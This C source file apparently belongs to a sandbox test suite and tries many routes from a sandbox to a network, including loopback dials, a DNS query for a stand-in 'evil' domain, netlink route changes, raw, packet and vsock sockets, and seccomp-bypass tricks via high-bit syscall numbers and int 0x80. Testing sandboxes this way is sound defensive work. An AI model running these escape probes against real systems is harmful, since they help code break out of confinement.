/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Any way to a network that is not the sandbox's own loopback. */
#include "../malice.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <linux/if.h>
#include <linux/if_link.h>
#include <linux/io_uring.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>

static void
dial (int family, const char *host, int port, int type)
{
  struct sockaddr_in v4 = { .sin_family = AF_INET, .sin_port = htons (port) };
  struct sockaddr_in6 v6 = { .sin6_family = AF_INET6, .sin6_port = htons (port) };
  struct sockaddr *address = family == AF_INET ? (struct sockaddr *)&v4 : (struct sockaddr *)&v6;
  socklen_t size = family == AF_INET ? sizeof v4 : sizeof v6;
  if (inet_pton (family, host, family == AF_INET ? (void *)&v4.sin_addr : (void *)&v6.sin6_addr) != 1)
    return;
  int fd = socket (family, type | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  if (fd < 0)
    return;
  char what[128];
  snprintf (what, sizeof what, "%s port %d", host, port);
  int refused = connect (fd, address, size) != 0 && errno != EINPROGRESS;
  struct pollfd p = { .fd = fd, .events = POLLOUT };
  if (!refused && poll (&p, 1, 1000) == 1 && !(p.revents & POLLERR)
      && (type != SOCK_DGRAM || send (fd, "?", 1, 0) == 1))
    listen_for_bait (what, fd);
  close (fd);
}

void
attack_host_loopback (void)
{
  dial (AF_INET, "127.0.0.1", (int)given_number ("TCP4"), SOCK_STREAM);
  dial (AF_INET6, "::1", (int)maybe_number ("TCP6", given_number ("TCP4")), SOCK_STREAM);
  dial (AF_INET6, "::ffff:127.0.0.1", (int)given_number ("TCP4"), SOCK_STREAM);
  dial (AF_INET, "0.0.0.0", (int)given_number ("TCP_ANY"), SOCK_STREAM);
}

void
attack_host_addresses (void)
{
  char *list = strdup (given ("ADDRESSES")), *save = NULL;
  for (char *a = strtok_r (list, ",", &save); a != NULL; a = strtok_r (NULL, ",", &save))
    dial (strchr (a, ':') ? AF_INET6 : AF_INET, a, (int)given_number ("TCP_ANY"), SOCK_STREAM);
}

void
attack_host_udp (void)
{
  dial (AF_INET, "127.0.0.1", (int)given_number ("UDP"), SOCK_DGRAM);
  char *list = strdup (given ("ADDRESSES")), *save = NULL;
  for (char *a = strtok_r (list, ",", &save); a != NULL; a = strtok_r (NULL, ",", &save))
    dial (strchr (a, ':') ? AF_INET6 : AF_INET, a, (int)given_number ("UDP"), SOCK_DGRAM);
}

static void
ask (const char *server, int port)
{
  /* A question for secret.evil.test, type A. */
  static const unsigned char question[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
                                          "\x06secret\x04"
                                          "evil\x04test\x00\x00\x01\x00\x01";
  struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons (port) };
  if (inet_pton (AF_INET, server, &address.sin_addr) != 1)
    return;
  int fd = socket (AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  struct pollfd p = { .fd = fd, .events = POLLIN };
  char answer[512];
  if (fd >= 0 && sendto (fd, question, sizeof question - 1, 0, (struct sockaddr *)&address, sizeof address) > 0
      && poll (&p, 1, 500) == 1 && recv (fd, answer, sizeof answer, MSG_DONTWAIT) > 0)
    escaped ("%s port %d answered a DNS question", server, port);
  close (fd);
}

void
attack_ask_dns (void)
{
  ask ("127.0.0.1", (int)given_number ("UDP"));
  ask ("127.0.0.1", 53);
  ask ("127.0.0.53", 53);
  FILE *file = fopen ("/etc/resolv.conf", "r");
  char line[256], server[64];
  while (file != NULL && fgets (line, sizeof line, file) != NULL)
    if (sscanf (line, " nameserver %63s", server) == 1)
      ask (server, 53);
}

void
attack_interfaces (void)
{
  int fd = socket (AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  for (int i = 1; fd >= 0 && i < 64; i++)
    {
      struct ifreq request = { .ifr_ifindex = i };
      if (ioctl (fd, SIOCGIFNAME, &request) == 0 && strcmp (request.ifr_name, "lo") != 0)
        escaped ("interface %s is here", request.ifr_name);
    }
}

static int
netlink_request (int type, int flags, const void *body, size_t size, const void *extra, size_t extra_size)
{
  struct
  {
    struct nlmsghdr head;
    char rest[512];
  } message = { .head = { .nlmsg_type = type, .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | flags, .nlmsg_seq = 1 } };
  memcpy (message.rest, body, size);
  if (extra_size > 0)
    memcpy (message.rest + NLMSG_ALIGN (size), extra, extra_size);
  message.head.nlmsg_len = NLMSG_LENGTH (NLMSG_ALIGN (size) + extra_size);
  int fd = socket (AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
  char answer[4096];
  int result = -1;
  if (fd >= 0 && send (fd, &message, message.head.nlmsg_len, 0) > 0)
    {
      ssize_t n = recv (fd, answer, sizeof answer, 0);
      struct nlmsghdr *h = (struct nlmsghdr *)(void *)answer;
      if (n >= (ssize_t)sizeof *h + (ssize_t)sizeof (struct nlmsgerr) && h->nlmsg_type == NLMSG_ERROR)
        result = ((struct nlmsgerr *)NLMSG_DATA (h))->error;
    }
  close (fd);
  return result;
}

void
attack_netlink_change (void)
{
  /* 10.99.0.1/32 on lo, a route by lo, lo's flags: each harmless, each forbidden. */
  struct ifaddrmsg address = { .ifa_family = AF_INET, .ifa_prefixlen = 32, .ifa_index = 1 };
  struct
  {
    struct rtattr head;
    uint32_t value;
  } local = { { .rta_len = 8, .rta_type = IFA_LOCAL }, htonl (0x0a630001) };
  if (netlink_request (RTM_NEWADDR, NLM_F_CREATE, &address, sizeof address, &local, sizeof local) == 0)
    escaped ("an address was added by netlink");
  struct rtmsg route = { .rtm_family = AF_INET,
                         .rtm_dst_len = 32,
                         .rtm_table = RT_TABLE_MAIN,
                         .rtm_protocol = RTPROT_BOOT,
                         .rtm_scope = RT_SCOPE_LINK,
                         .rtm_type = RTN_UNICAST };
  struct
  {
    struct rtattr a;
    uint32_t to;
    struct rtattr b;
    uint32_t by;
  } via = { { 8, RTA_DST }, htonl (0x0a630002), { 8, RTA_OIF }, 1 };
  if (netlink_request (RTM_NEWROUTE, NLM_F_CREATE, &route, sizeof route, &via, sizeof via) == 0)
    escaped ("a route was added by netlink");
  struct ifinfomsg link = { .ifi_family = AF_UNSPEC, .ifi_index = 1, .ifi_flags = IFF_UP, .ifi_change = IFF_UP };
  if (netlink_request (RTM_NEWLINK, 0, &link, sizeof link, NULL, 0) == 0)
    escaped ("a link was changed by netlink");
  int fd = socket (AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  struct ifreq request = { .ifr_name = "lo", .ifr_flags = IFF_UP };
  if (fd >= 0 && ioctl (fd, SIOCSIFFLAGS, &request) == 0)
    escaped ("a link was changed by ioctl");
}

void
attack_raw_socket (void)
{
  for (int protocol = 1; protocol < 256; protocol += 5)
    if (socket (AF_INET, SOCK_RAW | SOCK_CLOEXEC, protocol) >= 0
        || socket (AF_INET6, SOCK_RAW | SOCK_CLOEXEC, protocol) >= 0)
      escaped ("a raw socket of protocol %d", protocol);
}

void
attack_packet_socket (void)
{
  const int types[] = { SOCK_RAW, SOCK_DGRAM, SOCK_PACKET };
  for (int i = 0; i < 3; i++)
    if (socket (AF_PACKET, types[i] | SOCK_CLOEXEC, htons (3)) >= 0 || socket (AF_INET, SOCK_PACKET, htons (3)) >= 0)
      escaped ("a packet socket of type %d", types[i]);
}

void
attack_vsock (void)
{
  const int types[] = { SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET };
  for (int i = 0; i < 3; i++)
    if (socket (AF_VSOCK, types[i] | SOCK_CLOEXEC, 0) >= 0)
      escaped ("an AF_VSOCK socket: the hypervisor can be dialled");
}

static int
allowed_family (int family)
{
  return family == AF_UNIX || family == AF_INET || family == AF_INET6 || family == AF_NETLINK;
}

void
attack_socket_families (void)
{
  const int types[] = { SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET };
  for (int family = 0; family < 64; family++)
    for (int t = 0; t < 4 && !allowed_family (family); t++)
      for (int protocol = 0; protocol < 3; protocol++)
        {
          int pair[2];
          if (socket (family, types[t], protocol) >= 0 || socketpair (family, types[t], protocol, pair) == 0)
            escaped ("a socket of family %d, type %d", family, types[t]);
        }
}

void
attack_socket_high_bits (void)
{
  for (long family = 0; family < 64; family++)
    for (int t = 1; t < 6 && !allowed_family (family); t++)
      {
        const unsigned long high = 0x7fffffff00000000ul;
        if (syscall (SYS_socket, high | family, (long)t, 0L) >= 0
            || syscall (SYS_socket, high | family, high | t, high) >= 0)
          escaped ("family %ld with high bits set", family);
      }
}

#ifdef __x86_64__
static long
int80 (long number, long a, long b, long c)
{
  long result;
  __asm__ volatile("int $0x80"
                   : "=a"(result)
                   : "a"(number), "b"(a), "c"(b), "d"(c)
                   : "memory", "r8", "r9", "r10", "r11");
  return result;
}

static void
socket_by_int80 (void)
{
  /* i386: socket is 359; socketcall (102) takes its arguments from the first 4 GiB. */
  const int families[] = { AF_VSOCK, AF_ALG, AF_PACKET, AF_KEY };
  for (int i = 0; i < 4; i++)
    for (int type = 1; type < 6; type++)
      if (int80 (359, families[i], type, 0) >= 0)
        escaped ("family %d by int 0x80", families[i]);
  uint32_t *low = mmap (NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  for (int i = 0; i < 4 && low != MAP_FAILED; i++)
    {
      low[0] = families[i], low[1] = SOCK_STREAM, low[2] = 0;
      if (int80 (102, 1, (long)low, 0) >= 0)
        escaped ("family %d by socketcall", families[i]);
    }
}
#endif

void
attack_socket_int80 (void)
{
#ifdef __x86_64__
  try_in_child (socket_by_int80);
#endif
}

void
attack_io_uring (void)
{
  struct io_uring_params parameters = { 0 };
  long fd = syscall (SYS_io_uring_setup, 4, &parameters);
  if (fd >= 0)
    escaped ("an io_uring was set up: its operations pass no filter");
  memset (&parameters, 0, sizeof parameters);
  fd = syscall (SYS_io_uring_setup | 0x100000000L, 4, &parameters);
  if (fd >= 0)
    escaped ("an io_uring was set up by a number with high bits");
}

void
attack_host_network_namespace (void)
{
  unsigned long long host = given_number ("NETNS");
  DIR *proc = opendir ("/proc");
  for (struct dirent *e; proc != NULL && (e = readdir (proc)) != NULL;)
    {
      char path[300];
      struct stat st;
      snprintf (path, sizeof path, "/proc/%s/ns/net", e->d_name);
      if (stat (path, &st) == 0 && st.st_ino == host)
        escaped ("%s is the host's network namespace", path);
    }
  for (int fd = 0; fd < 256; fd++)
    {
      struct stat st;
      if (fstat (fd, &st) == 0 && st.st_ino == host && setns (fd, CLONE_NEWNET) == 0)
        escaped ("descriptor %d led into the host's network namespace", fd);
    }
}
